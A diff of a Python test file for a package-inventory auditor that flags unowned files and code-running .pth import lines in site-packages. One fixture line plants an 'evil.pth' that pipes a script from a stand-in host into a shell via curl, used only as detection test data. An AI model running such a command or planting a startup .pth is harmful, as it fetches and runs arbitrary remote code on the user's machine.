@@ -200,7 +200,10 @@ def test_unowned_files_are_problems_unless_allowed() -> None:
     assert "unowned-file" in PROBLEM_KINDS
 
 
-def test_pth_import_lines_are_problems_unless_their_file_is_allowed() -> None:
+def test_import_lines_of_an_unowned_pth_are_problems_unless_allowed() -> None:
+    """An owned .pth (setuptools' distutils-precedence.pth, in every fresh venv) is
+    its distribution's code, checked with its files; an unowned one is reported
+    twice: as a file no RECORD lists, and for the code it runs at every start."""
     line = f"{SITE}/evil.pth: import os; os.system('curl evil.example | sh')"
     inv = dataclasses.replace(
         inventory_of(dist("alpha", "1.0", None)),
@@ -209,14 +212,10 @@ def test_pth_import_lines_are_problems_unless_their_file_is_allowed() -> None:
     )
     report = run([package("alpha", "1.0")], inv)
     got = sorted((p.kind, p.path) for p in report.problems)
-    assert got == [
-        ("pth-import", "distutils-precedence.pth"),
-        ("pth-import", "evil.pth"),
-        ("unowned-file", "evil.pth"),
-    ]
+    assert got == [("pth-import", "evil.pth"), ("unowned-file", "evil.pth")]
     assert "curl evil.example" in report.render()
-    allowed = run([package("alpha", "1.0")], inv, allow_unowned=("distutils-precedence.pth",))
-    assert [p.path for p in allowed.problems if p.kind == "pth-import"] == ["evil.pth"]
+    allowed = run([package("alpha", "1.0")], inv, allow_unowned=("evil.pth",))
+    assert allowed.problems == ()
 
 
 def test_file_issues_still_reported_with_deep_checks() -> None:
